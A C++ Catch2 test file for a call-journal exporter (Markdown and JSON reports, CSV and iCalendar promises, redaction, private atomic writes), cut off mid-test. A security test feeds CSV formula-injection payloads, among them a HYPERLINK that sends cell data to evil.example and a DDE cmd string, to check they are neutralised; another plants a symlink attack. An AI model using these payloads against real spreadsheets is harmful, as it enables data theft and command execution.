// The exporters on the fixture journal: the call report in Markdown and JSON, the promises as CSV
// and iCalendar, --redact, the period, and the private atomic write.
#include "common/privatefile.h"
#include "exportfixture.h"
#include "journal/export.h"

#include "catch_qt.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTemporaryDir>

#include <sys/stat.h>
#include <unistd.h>

using namespace steadyline;
using namespace steadyline::journal;
using namespace steadyline::test;

namespace {

const QDateTime kNow = fixtureTime(30, 10, 0);

struct Fixture
{
    QTemporaryDir dir;
    ExportFixture ids;
    std::unique_ptr<Journal> journal;

    Fixture()
    {
        REQUIRE(dir.isValid());
        ids = buildExportFixture(dir.path());
        QString error;
        journal = Journal::open(dir.path(), &error);
        INFO(error.toStdString());
        REQUIRE(journal);
    }
};

CallReport report(const Journal &journal, const CallReportOptions &options = {})
{
    const auto result = collectCallReport(journal, options, kNow);
    INFO(result.error.toStdString());
    REQUIRE(result.ok());
    return result.value;
}

PromiseExport promises(const Journal &journal, bool openOnly, bool redact = false)
{
    const auto result = collectPromises(journal, {openOnly, redact}, kNow);
    INFO(result.error.toStdString());
    REQUIRE(result.ok());
    return result.value;
}

QJsonObject parseJson(const QByteArray &bytes)
{
    QJsonParseError error;
    const QJsonDocument document = QJsonDocument::fromJson(bytes, &error);
    INFO(error.errorString().toStdString());
    REQUIRE(error.error == QJsonParseError::NoError);
    REQUIRE(document.isObject());
    return document.object();
}

// A small RFC 4180 reader, so the test does not trust the writer's idea of quoting.
std::vector<QStringList> parseCsv(const QString &text)
{
    std::vector<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row << field;
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            row << field;
            field.clear();
            rows.push_back(row);
            row.clear();
            ++i;
        } else {
            REQUIRE(c != u'\n'); // a bare LF outside quotes is not RFC 4180
            field += c;
        }
    }
    REQUIRE_FALSE(quoted);
    REQUIRE(field.isEmpty());
    REQUIRE(row.isEmpty()); // the last record ends in CRLF
    return rows;
}

// RFC 5545 unfolding: CRLF followed by a space or tab joins the lines.
QStringList unfold(const QByteArray &ics)
{
    QByteArray joined = ics;
    joined.replace("\r\n ", "").replace("\r\n\t", "");
    QStringList lines = QString::fromUtf8(joined).split(QStringLiteral("\r\n"));
    REQUIRE(lines.last().isEmpty());
    lines.removeLast();
    return lines;
}

// The properties of each VTODO, by name (the first occurrence).
std::vector<QHash<QString, QString>> todos(const QStringList &lines)
{
    std::vector<QHash<QString, QString>> result;
    QHash<QString, QString> current;
    bool inside = false;
    for (const QString &line : lines) {
        if (line == u"BEGIN:VTODO") {
            inside = true;
            current.clear();
        } else if (line == u"END:VTODO") {
            inside = false;
            result.push_back(current);
        } else if (inside) {
            const qsizetype colon = line.indexOf(QLatin1Char(':'));
            REQUIRE(colon > 0);
            if (!current.contains(line.left(colon)))
                current.insert(line.left(colon), line.mid(colon + 1));
        }
    }
    return result;
}

// RFC 5545 TEXT unescaping.
QString icalUnescape(const QString &text)
{
    QString out;
    for (qsizetype i = 0; i < text.size(); ++i) {
        if (text.at(i) == u'\\' && i + 1 < text.size()) {
            const QChar next = text.at(++i);
            out += (next == u'n' || next == u'N') ? QChar(u'\n') : next;
        } else {
            out += text.at(i);
        }
    }
    return out;
}

int modeOf(const QString &path)
{
    struct stat info = {};
    if (::stat(QFile::encodeName(path).constData(), &info) != 0)
        return -1;
    return static_cast<int>(info.st_mode & 07777);
}

QByteArray readAll(const QString &path)
{
    QFile file(path);
    REQUIRE(file.open(QIODevice::ReadOnly));
    return file.readAll();
}

} // namespace

TEST_CASE("The call report has every real call, oldest first, and never a training call", "[export][calls]")
{
    Fixture f;
    const CallReport r = report(*f.journal);
    REQUIRE(r.calls.size() == 3);
    CHECK(r.calls[0].call.id == f.ids.polishCall);
    CHECK(r.calls[1].call.id == f.ids.czechCall);
    CHECK(r.calls[2].call.id == f.ids.russianCall);
    CHECK(r.calls[0].timeline.size() == 4);
    CHECK(r.calls[0].notes.size() == 3);
    CHECK(r.calls[0].promises.size() == 2);
    CHECK(r.calls[2].promises.size() == 2);
    for (const CallReportEntry &entry : r.calls)
        CHECK_FALSE(entry.call.training);

    const QString md = QString::fromUtf8(callReportMarkdown(r));
    const QString json = QString::fromUtf8(callReportJson(r));
    CHECK_FALSE(md.contains(kTrainingMarker));
    CHECK_FALSE(json.contains(kTrainingMarker));
}

TEST_CASE("The Markdown report reads as a record: who, when, how, timeline, notes, promises", "[export][markdown]")
{
    Fixture f;
    const QString md = QString::fromUtf8(callReportMarkdown(report(*f.journal)));
    INFO(md.toStdString());
    CHECK(md.startsWith(QStringLiteral("# Steadyline call report\n\n")));
    CHECK(md.contains(QStringLiteral("- **Calls:** 3 (training calls are not included)")));
    CHECK(md.contains(QStringLiteral("- **Period:** every recorded call")));
    CHECK(md.contains(QStringLiteral("- **Generated:** 2026-11-30 10:00:00 +01:00 by Steadyline ")));

    // Oldest first, each with a heading.
    const qsizetype polish =
        md.indexOf(QStringLiteral("## Call %1 · 2026-11-23 09:15 +01:00 · ZG-2026/0042").arg(f.ids.polishCall));
    const qsizetype czech =
        md.indexOf(QStringLiteral("## Call %1 · 2026-11-24 14:00 +01:00 · CZ-7781").arg(f.ids.czechCall));
    const qsizetype russian =
        md.indexOf(QStringLiteral("## Call %1 · 2026-11-25 18:30 +01:00 · RU-15").arg(f.ids.russianCall));
    CHECK(polish > 0);
    CHECK(czech > polish);
    CHECK(russian > czech);

    // The facts of the Polish call.
    for (const QString &line : {
             QStringLiteral("- **Started:** 2026-11-23 09:15:02 +01:00"),
             QStringLiteral("- **Ended:** 2026-11-23 09:19:01 +01:00"),
             QStringLiteral("- **Duration:** 3 min 59 s"),
             QStringLiteral("- **Channel:** phone"),
             QStringLiteral("- **Form of address:** formal, addressed as a woman"),
             QStringLiteral("- **Case reference:** ZG-2026/0042"),
             QStringLiteral("- **Outcome:** escalated to the manager / security"),
             QStringLiteral("- **Playbook:** `aggressive-caller-pl`, revision 3, SHA-256 "
                            "`9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08`"),
             QStringLiteral("- **Language:** `pl`"),
             QStringLiteral("Times below are 2026-11-23 (UTC+01:00)."),
             // Timeline with times.
             QStringLiteral("- 09:15:03 — step entered (`calm_down`)"),
             QStringLiteral("- 09:15:05 — line said (`calm_down`): Jestem tu po to, aby Pani pomóc."),
             QStringLiteral("- 09:15:10 — countdown started (`warning`): 60 s"),
             QStringLiteral("- 09:19:01 — final action (`escalate`): notify_supervisor"),
             // Notes with their time and tags.
             QStringLiteral("- 09:15:14 — Klient krzyczy, obraża konsultanta; zażółć gęślą jaźń (tags: insult)"),
             // Promises with due time and status; the kept one with when it was kept.
             QStringLiteral("due 2026-11-25 12:00 +01:00 · **open**"),
             QStringLiteral("- 09:15:41 — Wyślę potwierdzenie na jan.kowalski@example.pl · case ZG-2026/0042 · due "
                            "2026-11-24 10:00 +01:00 · **kept** 2026-11-24 09:40 +01:00"),
             // The Czech call: in person, formal male, a cancelled promise.
             QStringLiteral("- **Channel:** in person"),
             QStringLiteral("- **Form of address:** formal, addressed as a man"),
             QStringLiteral("- **Outcome:** resolved"),
             QStringLiteral("Zákazník vyhrožoval, že přijde znovu"),
             QStringLiteral("Zavolám zpět zítra, řeknu výsledek · case CZ-7781 · due 2026-11-25 09:00 +01:00 · "
                            "**cancelled**"),
             // The Russian call is still open.
             QStringLiteral("- **Outcome:** not ended"),
             QStringLiteral("- **Ended:** —"),
             QStringLiteral("Клиент угрожал жалобой в суд"),
             QStringLiteral("· no due time · **open**"),
         }) {
        INFO(line.toStdString());
        CHECK(md.contains(line));
    }
    // Markdown in a note is shown as typed, not rendered; its lines stay in the list item.
    CHECK(md.contains(QStringLiteral("\\*Pilne\\* \\<b>uwaga\\</b>  \n  \\- nie wysyłać pisma  \n  1\\. najpierw "
                                     "telefon (tags: asked for manager)")));
    CHECK(md.contains(QStringLiteral("Sprawdzić nagranie rozmowy  \n  z działem jakości")));
    CHECK_FALSE(md.contains(QStringLiteral("\n\n\n")));
    CHECK(md.endsWith(QLatin1Char('\n')));
}

TEST_CASE("The JSON report has a stable, documented shape", "[export][json]")
{
    Fixture f;
    const QJsonObject root = parseJson(callReportJson(report(*f.journal)));
    CHECK(root.keys().size() == 9);
    CHECK(root.value(QStringLiteral("schemaVersion")).toInt() == kCallReportSchemaVersion);
    CHECK(root.value(QStringLiteral("kind")).toString() == QStringLiteral("steadyline.callReport"));
    CHECK(root.value(QStringLiteral("generator")).toString().startsWith(QStringLiteral("Steadyline ")));
    CHECK(root.value(QStringLiteral("generatedAt")).toString() == QStringLiteral("2026-11-30T10:00:00.000+01:00"));
    CHECK(root.value(QStringLiteral("period")).toObject().value(QStringLiteral("since")).isNull());
    CHECK(root.value(QStringLiteral("period")).toObject().value(QStringLiteral("until")).isNull());
    CHECK(root.value(QStringLiteral("redacted")).toBool() == false);
    CHECK(root.value(QStringLiteral("trainingCallsIncluded")).toBool() == false);
    CHECK(root.value(QStringLiteral("callCount")).toInt() == 3);
    const QJsonArray calls = root.value(QStringLiteral("calls")).toArray();
    REQUIRE(calls.size() == 3);

    const QJsonObject polish = calls.at(0).toObject();
    CHECK(polish.value(QStringLiteral("id")).toInteger() == f.ids.polishCall);
    CHECK(polish.value(QStringLiteral("started")).toString() == QStringLiteral("2026-11-23T09:15:02.123+01:00"));
    CHECK(polish.value(QStringLiteral("ended")).toString() == QStringLiteral("2026-11-23T09:19:01.623+01:00"));
    CHECK(polish.value(QStringLiteral("durationMs")).toInteger() == 239500);
    CHECK(polish.value(QStringLiteral("channel")).toString() == QStringLiteral("phone"));
    CHECK(polish.value(QStringLiteral("formOfAddress")).toString() == QStringLiteral("formal_female"));
    CHECK(polish.value(QStringLiteral("caseReference")).toString() == QStringLiteral("ZG-2026/0042"));
    CHECK(polish.value(QStringLiteral("locale")).toString() == QStringLiteral("pl"));
    CHECK(polish.value(QStringLiteral("outcome")).toString() == QStringLiteral("escalated"));
    const QJsonObject playbook = polish.value(QStringLiteral("playbook")).toObject();
    CHECK(playbook.value(QStringLiteral("id")).toString() == QStringLiteral("aggressive-caller-pl"));
    CHECK(playbook.value(QStringLiteral("revision")).toInt() == 3);
    CHECK(playbook.value(QStringLiteral("sha256")).toString().size() == 64);
    const QJsonArray timeline = polish.value(QStringLiteral("timeline")).toArray();
    REQUIRE(timeline.size() == 4);
    CHECK(timeline.at(1).toObject().value(QStringLiteral("at")).toString() ==
          QStringLiteral("2026-11-23T09:15:05.623+01:00"));
    CHECK(timeline.at(1).toObject().value(QStringLiteral("kind")).toString() == QStringLiteral("line_said"));
    CHECK(timeline.at(1).toObject().value(QStringLiteral("step")).toString() == QStringLiteral("calm_down"));
    CHECK(timeline.at(1).toObject().value(QStringLiteral("detail")).toString() ==
          QStringLiteral("Jestem tu po to, aby Pani pomóc."));
    const QJsonArray notes = polish.value(QStringLiteral("notes")).toArray();
    REQUIRE(notes.size() == 3);
    CHECK(notes.at(0).toObject().value(QStringLiteral("text")).toString() == kPolishNote);
    CHECK(notes.at(0).toObject().value(QStringLiteral("tags")).toArray() == QJsonArray{QStringLiteral("insult")});
    CHECK(notes.at(2).toObject().value(QStringLiteral("text")).toString() == kMarkdownNote);
    const QJsonArray polishPromises = polish.value(QStringLiteral("promises")).toArray();
    REQUIRE(polishPromises.size() == 2);
    // Ordered by due time: the kept one (due 24th) first.
    const QJsonObject kept = polishPromises.at(0).toObject();
    CHECK(kept.value(QStringLiteral("id")).toInteger() == f.ids.promiseKept);
    CHECK(kept.value(QStringLiteral("status")).toString() == QStringLiteral("kept"));
    CHECK(kept.value(QStringLiteral("keptAt")).toString() == QStringLiteral("2026-11-24T09:40:00.000+01:00"));
    CHECK(kept.value(QStringLiteral("due")).toString() == QStringLiteral("2026-11-24T10:00:00.000+01:00"));
    const QJsonObject open = polishPromises.at(1).toObject();
    CHECK(open.value(QStringLiteral("text")).toString() == kPromiseOpenText);
    CHECK(open.value(QStringLiteral("status")).toString() == QStringLiteral("open"));
    CHECK(open.value(QStringLiteral("keptAt")).isNull());
    CHECK(open.value(QStringLiteral("caseReference")).toString() == QStringLiteral("ZG-2026/0042"));
    CHECK(open.value(QStringLiteral("created")).toString().startsWith(QStringLiteral("2026-11-23T09:15:40")));

    const QJsonObject czech = calls.at(1).toObject();
    CHECK(czech.value(QStringLiteral("channel")).toString() == QStringLiteral("in_person"));
    CHECK(czech.value(QStringLiteral("promises")).toArray().at(0).toObject().value(QStringLiteral("status")) ==
          QStringLiteral("cancelled"));

    const QJsonObject russian = calls.at(2).toObject();
    CHECK(russian.value(QStringLiteral("ended")).isNull());
    CHECK(russian.value(QStringLiteral("durationMs")).isNull());
    CHECK(russian.value(QStringLiteral("outcome")).isNull());
    const QJsonArray russianPromises = russian.value(QStringLiteral("promises")).toArray();
    REQUIRE(russianPromises.size() == 2);
    CHECK(russianPromises.at(0).toObject().value(QStringLiteral("text")).toString() == kPromiseRussianText);
    CHECK(russianPromises.at(1).toObject().value(QStringLiteral("due")).isNull());

    // Every call object has the same keys, in the documented order.
    const QStringList keys{QStringLiteral("id"),
                           QStringLiteral("started"),
                           QStringLiteral("ended"),
                           QStringLiteral("durationMs"),
                           QStringLiteral("channel"),
                           QStringLiteral("formOfAddress"),
                           QStringLiteral("caseReference"),
                           QStringLiteral("locale"),
                           QStringLiteral("outcome"),
                           QStringLiteral("playbook"),
                           QStringLiteral("timeline"),
                           QStringLiteral("notes"),
                           QStringLiteral("promises")};
    const QString text = QString::fromUtf8(callReportJson(report(*f.journal)));
    qsizetype at = text.indexOf(QStringLiteral("\"calls\""));
    for (const QString &key : keys) {
        const qsizetype next = text.indexOf(QStringLiteral("\"%1\":").arg(key), at);
        INFO(key.toStdString());
        CHECK(next > at);
        at = next;
    }
    for (const auto &call : calls) {
        QStringList sorted = keys;
        sorted.sort();
        CHECK(call.toObject().keys() == sorted);
    }
}

TEST_CASE("The period: --since is inclusive, --until exclusive, training stays out inside it", "[export][period]")
{
    Fixture f;
    CallReportOptions options;
    options.since = fixtureTime(24, 0, 0);
    CallReport r = report(*f.journal, options);
    REQUIRE(r.calls.size() == 2);
    CHECK(r.calls[0].call.id == f.ids.czechCall);
    CHECK(r.calls[1].call.id == f.ids.russianCall);

    options.until = fixtureTime(25, 0, 0);
    r = report(*f.journal, options);
    REQUIRE(r.calls.size() == 1); // the training call on the 24th is not there
    CHECK(r.calls[0].call.id == f.ids.czechCall);
    const QString md = QString::fromUtf8(callReportMarkdown(r));
    CHECK(md.contains(QStringLiteral(
        "- **Period:** calls started from 2026-11-24 00:00 +01:00 until before 2026-11-25 00:00 +01:00")));
    const QJsonObject root = parseJson(callReportJson(r));
    CHECK(root.value(QStringLiteral("period")).toObject().value(QStringLiteral("since")).toString() ==
          QStringLiteral("2026-11-24T00:00:00.000+01:00"));

    // A started time exactly at the bound.
    options.since = fixtureTime(24, 14, 0, 0, 500);
    options.until = QDateTime();
    CHECK(report(*f.journal, options).calls.front().call.id == f.ids.czechCall);
    options.since = QDateTime();
    options.until = fixtureTime(24, 14, 0, 0, 500);
    CHECK(report(*f.journal, options).calls.back().call.id == f.ids.polishCall);

    options.since = fixtureTime(29, 0, 0);
    options.until = QDateTime();
    r = report(*f.journal, options);
    CHECK(r.calls.empty());
    CHECK(QString::fromUtf8(callReportMarkdown(r)).contains(QStringLiteral("No calls were recorded in this period.")));
    CHECK(parseJson(callReportJson(r)).value(QStringLiteral("calls")).toArray().isEmpty());
}

TEST_CASE("Redacting masks personal data in notes, promises, case references and timeline details", "[export][redact]")
{
    Fixture f;
    CallReportOptions options;
    options.redact = true;
    const CallReport r = report(*f.journal, options);
    CHECK(r.redacted);
    const QString md = QString::fromUtf8(callReportMarkdown(r));
    const QString json = QString::fromUtf8(callReportJson(r));
    for (const QString &text : {md, json}) {
        for (const char *secret : {"601 234 567", "22 123 45 67", "jan.kowalski@example.pl", "4111 1111", "PL61 1090",
                                   "44051401359", "CZ65 0800"}) {
            INFO(secret);
            CHECK_FALSE(text.contains(QString::fromUtf8(secret)));
        }
        for (const char *kept :
             {"zamówienie 12345678 z 2026-11-23 o 12:00, 60 zł", "ZG-2026/0042", "zażółć gęślą jaźń",
              "Клиент угрожал жалобой в суд", "[card]", "[IBAN]", "[PESEL]", "[e-mail]", "[phone]"}) {
            INFO(kept);
            CHECK(text.contains(QString::fromUtf8(kept)));
        }
    }
    CHECK(r.calls[0].notes[1].text ==
          QStringLiteral("Oddzwonić na [phone] albo [phone], e-mail [e-mail], karta [card], konto [IBAN], PESEL "
                         "[PESEL]; zamówienie 12345678 z 2026-11-23 o 12:00, 60 zł"));
    CHECK(r.calls[0].promises[0].text == QStringLiteral("Wyślę potwierdzenie na [e-mail]"));
    CHECK(r.calls[1].notes[0].text == QStringLiteral("Zákazník vyhrožoval, že přijde znovu; účet [IBAN]"));
    CHECK(r.redactions.phones == 2);
    CHECK(r.redactions.emails == 2);
    CHECK(r.redactions.cards == 1);
    CHECK(r.redactions.ibans == 2);
    CHECK(r.redactions.pesels == 1);
    CHECK(md.contains(QStringLiteral("- **Personal data masked:** 1 card number, 2 account numbers, 1 PESEL number, "
                                     "2 e-mail addresses, 2 phone numbers")));
    // The header also says what the masking does not find, and never that a report is clean.
    CHECK(md.contains(QStringLiteral("- **Not covered by masking:** Names are found only after a title")));
    CallReportOptions empty = options;
    empty.since = fixtureTime(29, 0, 0);
    const QString emptyMd = QString::fromUtf8(callReportMarkdown(report(*f.journal, empty)));
    CHECK(emptyMd.contains(QStringLiteral("- **Personal data masked:** no personal data found by the detectors (names, "
                                          "addresses and other identifiers may remain)")));
    CHECK(emptyMd.contains(QStringLiteral("- **Not covered by masking:** ")));
    CHECK_FALSE(emptyMd.contains(QStringLiteral("nothing needed masking")));
    CHECK(parseJson(callReportJson(r)).value(QStringLiteral("redacted")).toBool());

    // Without --redact nothing is changed.
    const CallReport plain = report(*f.journal);
    CHECK(plain.calls[0].notes[1].text == kPersonalNote);
    CHECK_FALSE(QString::fromUtf8(callReportMarkdown(plain)).contains(QStringLiteral("Personal data masked")));
    CHECK_FALSE(QString::fromUtf8(callReportMarkdown(plain)).contains(QStringLiteral("Not covered by masking")));
}

TEST_CASE("Promises as CSV: RFC 4180, a header, every field, open or all", "[export][csv]")
{
    Fixture f;
    const QByteArray bytes = promisesCsv(promises(*f.journal, false));
    CHECK_FALSE(bytes.startsWith("\xEF\xBB\xBF"));
    const QString text = QString::fromUtf8(bytes);
    const std::vector<QStringList> rows = parseCsv(text);
    REQUIRE(rows.size() == 6); // header + 5 promises (not the training one)
    CHECK(rows[0] == QStringList{QStringLiteral("id"), QStringLiteral("created"), QStringLiteral("due"),
                                 QStringLiteral("status"), QStringLiteral("kept_at"), QStringLiteral("case_reference"),
                                 QStringLiteral("text"), QStringLiteral("call_id")});
    QHash<qint64, QStringList> byId;
    for (std::size_t i = 1; i < rows.size(); ++i) {
        REQUIRE(rows[i].size() == 8);
        byId.insert(rows[i][0].toLongLong(), rows[i]);
    }
    CHECK_FALSE(byId.contains(f.ids.promiseTraining));
    const QStringList open = byId.value(f.ids.promiseOpen);
    CHECK(open[2] == QStringLiteral("2026-11-25T12:00:00.000+01:00"));
    CHECK(open[3] == QStringLiteral("open"));
    CHECK(open[4].isEmpty());
    CHECK(open[5] == QStringLiteral("ZG-2026/0042"));
    CHECK(open[6] == kPromiseOpenText); // commas, quotes and a backslash survive
    CHECK(open[7] == QString::number(f.ids.polishCall));
    const QStringList kept = byId.value(f.ids.promiseKept);
    CHECK(kept[3] == QStringLiteral("kept"));
    CHECK(kept[4] == QStringLiteral("2026-11-24T09:40:00.000+01:00"));
    CHECK(byId.value(f.ids.promiseCancelled)[3] == QStringLiteral("cancelled"));
    CHECK(byId.value(f.ids.promiseCancelled)[6] == kPromiseCancelledText);
    CHECK(byId.value(f.ids.promiseRussian)[6] == kPromiseRussianText);
    CHECK(byId.value(f.ids.promiseNoDue)[2].isEmpty());
    CHECK(byId.value(f.ids.promiseNoDue)[6] == kPromiseNoDueText); // a line break inside quotes
    // Ordered by due time, those without one last.
    CHECK(rows[1][0].toLongLong() == f.ids.promiseKept);
    CHECK(rows[5][0].toLongLong() == f.ids.promiseNoDue);

    const std::vector<QStringList> openRows = parseCsv(QString::fromUtf8(promisesCsv(promises(*f.journal, true))));
    REQUIRE(openRows.size() == 4);
    for (std::size_t i = 1; i < openRows.size(); ++i)
        CHECK(openRows[i][3] == QStringLiteral("open"));
}

TEST_CASE("Promises as iCalendar: VTODOs with DUE in UTC, stable UIDs, escaping, folding", "[export][ics]")
{
    Fixture f;
    const QByteArray ics = promisesICalendar(promises(*f.journal, false));
    // CRLF everywhere, no line longer than 75 octets, folds never inside a UTF-8 character.
    CHECK(ics.endsWith("END:VCALENDAR\r\n"));
    const QList<QByteArray> physical = ics.split('\n');
    bool folded = false;
    for (qsizetype i = 0; i + 1 < physical.size(); ++i) {
        const QByteArray &line = physical.at(i);
        INFO(line.toStdString());
        REQUIRE(line.endsWith('\r'));
        CHECK(line.size() - 1 <= 75);
        if (line.startsWith(' ')) {
            folded = true;
            CHECK((static_cast<unsigned char>(line.at(1)) & 0xC0) != 0x80);
        }
        CHECK(QString::fromUtf8(line).toUtf8() == line); // each physical line is whole UTF-8
    }
    CHECK(folded); // the Russian promise is long enough to be folded

    const QStringList lines = unfold(ics);
    CHECK(lines.first() == QStringLiteral("BEGIN:VCALENDAR"));
    CHECK(lines.contains(QStringLiteral("VERSION:2.0")));
    CHECK(lines.filter(QRegularExpression(QStringLiteral("^PRODID:-//Steadyline//"))).size() == 1);
    const auto tasks = todos(lines);
    REQUIRE(tasks.size() == 5);
    QHash<QString, QHash<QString, QString>> byUid;
    for (const auto &task : tasks) {
        for (const char *property : {"UID", "DTSTAMP", "CREATED", "SUMMARY", "STATUS", "DESCRIPTION"})
            CHECK(task.contains(QString::fromLatin1(property)));
        CHECK(task.value(QStringLiteral("DTSTAMP")) == QStringLiteral("20261130T090000Z"));
        byUid.insert(task.value(QStringLiteral("UID")), task);
    }
    REQUIRE(byUid.size() == 5); // unique

    Promise open;
    open.id = f.ids.promiseOpen;
    open.at = fixtureTime(23, 9, 15, 40, 623);
    const QString openUid = promiseUid(open);
    CHECK(openUid == QStringLiteral("steadyline-promise-%1-20261123T081540623Z@steadyline.app").arg(f.ids.promiseOpen));
    REQUIRE(byUid.contains(openUid));
    const auto &o = byUid[openUid];
    CHECK(o.value(QStringLiteral("DUE")) == QStringLiteral("20261125T110000Z"));
    CHECK(o.value(QStringLiteral("CREATED")) == QStringLiteral("20261123T081540Z"));
    CHECK(o.value(QStringLiteral("STATUS")) == QStringLiteral("NEEDS-ACTION"));
    CHECK_FALSE(o.contains(QStringLiteral("COMPLETED")));
    // , ; \ escaped; the text comes back whole.
    CHECK(o.value(QStringLiteral("SUMMARY")) ==
          QStringLiteral(
              "ZG-2026/0042: Oddzwonię z decyzją\\, do 25 listopada\\; sprawdzę wniosek \\\\ skargę \"pilną\""));
    CHECK(icalUnescape(o.value(QStringLiteral("SUMMARY"))) == QStringLiteral("ZG-2026/0042: ") + kPromiseOpenText);

    QStringList statuses;
    for (const auto &task : tasks) {
        statuses << task.value(QStringLiteral("STATUS"));
        const QString summary = icalUnescape(task.value(QStringLiteral("SUMMARY")));
        if (summary.endsWith(kPromiseKeptText)) {
            CHECK(task.value(QStringLiteral("STATUS")) == QStringLiteral("COMPLETED"));
            CHECK(task.value(QStringLiteral("COMPLETED")) == QStringLiteral("20261124T084000Z"));
            CHECK(task.value(QStringLiteral("DUE")) == QStringLiteral("20261124T090000Z"));
        }
        if (summary.endsWith(kPromiseCancelledText))
            CHECK(task.value(QStringLiteral("STATUS")) == QStringLiteral("CANCELLED"));
        if (summary.endsWith(kPromiseRussianText))
            CHECK(task.value(QStringLiteral("DUE")) == QStringLiteral("20261127T154500Z"));
        if (summary == kPromiseNoDueText) {
            CHECK_FALSE(task.contains(QStringLiteral("DUE")));
            CHECK(task.value(QStringLiteral("SUMMARY")).contains(QStringLiteral("\\n")));
        }
    }
    statuses.sort();
    CHECK(statuses == QStringList{QStringLiteral("CANCELLED"), QStringLiteral("COMPLETED"),
                                  QStringLiteral("NEEDS-ACTION"), QStringLiteral("NEEDS-ACTION"),
                                  QStringLiteral("NEEDS-ACTION")});
    CHECK_FALSE(QString::fromUtf8(ics).contains(kTrainingMarker));

    // The UIDs do not change from one export to the next, so a calendar updates the same tasks.
    const auto later = collectPromises(*f.journal, {}, kNow.addDays(3));
    QStringList again;
    for (const auto &task : todos(unfold(promisesICalendar(later.value))))
        again << task.value(QStringLiteral("UID"));
    QStringList first = byUid.keys();
    first.sort();
    again.sort();
    CHECK(again == first);

    // Open only.
    CHECK(todos(unfold(promisesICalendar(promises(*f.journal, true)))).size() == 3);
}

TEST_CASE("Folding at 75 octets never splits a character, whatever the text", "[export][ics]")
{
    for (const QString &text : {QString(200, QChar(u'ż')), QString(200, QChar(u'a')), QStringLiteral("€").repeated(90),
                                QStringLiteral("😀").repeated(40), QStringLiteral("aż€😀").repeated(30)}) {
        PromiseExport e;
        e.generated = kNow;
        Promise p;
        p.id = 1;
        p.at = kNow;
        p.text = text;
        e.promises.push_back(p);
        const QByteArray ics = promisesICalendar(e);
        for (const QByteArray &line : ics.split('\n')) {
            CHECK(line.size() <= 76);
            CHECK(QString::fromUtf8(line).toUtf8() == line);
        }
        const auto tasks = todos(unfold(ics));
        REQUIRE(tasks.size() == 1);
        CHECK(icalUnescape(tasks[0].value(QStringLiteral("SUMMARY"))) == text);
    }
}

TEST_CASE("Exports are written atomically and readable by the user alone", "[export][file]")
{
    QTemporaryDir dir;
    const mode_t previous = ::umask(022);
    const QString path = dir.filePath(QStringLiteral("report.md"));
    QString error;
    REQUIRE(writePrivateFile(path, "first\n", &error));
    CHECK(error.isEmpty());
    CHECK(modeOf(path) == 0600);
    CHECK(readAll(path) == "first\n");

    // Replacing a file that others could read makes it private too.
    const QString shared = dir.filePath(QStringLiteral("shared.csv"));
    {
        QFile file(shared);
        REQUIRE(file.open(QIODevice::WriteOnly));
        file.write("old\n");
    }
    REQUIRE(::chmod(QFile::encodeName(shared).constData(), 0644) == 0);
    REQUIRE(writePrivateFile(shared, "new\n", &error));
    CHECK(modeOf(shared) == 0600);
    CHECK(readAll(shared) == "new\n");
    CHECK(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden).size() == 2); // no temporary file left
    ::umask(previous);

    // Unwritable places: a clear error, nothing changed.
    const QString underFile = shared + QStringLiteral("/report.md");
    CHECK_FALSE(writePrivateFile(underFile, "x", &error));
    CHECK(error.contains(underFile));
    CHECK(readAll(shared) == "new\n");
    CHECK_FALSE(writePrivateFile(dir.filePath(QStringLiteral("missing/report.md")), "x", &error));
    CHECK(error.startsWith(QStringLiteral("Cannot write ")));
    CHECK_FALSE(writePrivateFile(dir.path(), "x", &error));
    CHECK(error.contains(QStringLiteral("folder")));
    CHECK_FALSE(writePrivateFile(QString(), "x", &error));
    CHECK_FALSE(error.isEmpty());
}

TEST_CASE("Promises as CSV: a cell a spreadsheet would run as a formula is written as text (review M5)",
          "[export][csv][security]")
{
    Fixture f;
    const QStringList hostile{QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")"),
                              QStringLiteral("+cmd|' /C calc'!A0"),
                              QStringLiteral("-2+3"),
                              QStringLiteral("@SUM(1+1)"),
                              QStringLiteral("\tleading tab"),
                              QStringLiteral("\rleading return")};
    for (const QString &text : hostile)
        REQUIRE(f.journal->addPromise(f.ids.polishCall, text, text, QDateTime()).ok);
    REQUIRE(f.journal->flushPending().ok);
    const std::vector<QStringList> rows = parseCsv(QString::fromUtf8(promisesCsv(promises(*f.journal, false))));
    int seen = 0;
    for (const QStringList &row : rows) {
        for (const QString &text : hostile) {
            if (row.value(6).endsWith(text.mid(1))) {
                ++seen;
                INFO(row.value(6).toStdString());
                CHECK(row.value(6) == QLatin1Char('\'') + text); // shown as typed, never evaluated
                CHECK(row.value(5) == QLatin1Char('\'') + text);
            }
        }
    }
    CHECK(seen == hostile.size());
    // Ordinary text is left as it is.
    CHECK(rows[1][6].at(0) != QLatin1Char('\''));
}

TEST_CASE("An export never follows a symbolic link planted at its path (review M2)", "[export][file][security]")
{
    QTemporaryDir dir;
    REQUIRE(dir.isValid());
    const QString victim = dir.filePath(QStringLiteral("bashrc"));
    {
        QFile file(victim);
        REQUIRE(file.open(QIODevice::WriteOnly));
        file.write("export PATH=/usr/bin\n");
    }
    const QString planted = dir.filePath(QStringLiteral("report.md"));
    REQUIRE(QFile::link(victim, planted));
    QString error;
    CHECK_FALSE(writePrivateFile(planted, "# Calls\n", &error));
    CHECK(error.contains(QStringLiteral("symbolic link")));
    CHECK(readAll(victim) == "export PATH=/usr/bin\n");
    CHECK(QFileInfo(planted).isSymLink());

    // A folder that another user owns and everybody may write into: refused (a link could be
    // planted between any check and the rename). The user's own such folder is theirs to use.
    if (::geteuid() == 0) {
        const QString shared = dir.filePath(QStringLiteral("shared"));
        REQUIRE(QDir().mkpath(shared));
        REQUIRE(::chmod(QFile::encodeName(shared).constData(), 0777) == 0);
        REQUIRE(::chown(QFile::encodeName(shared).constData(), 65534, 65534) == 0);
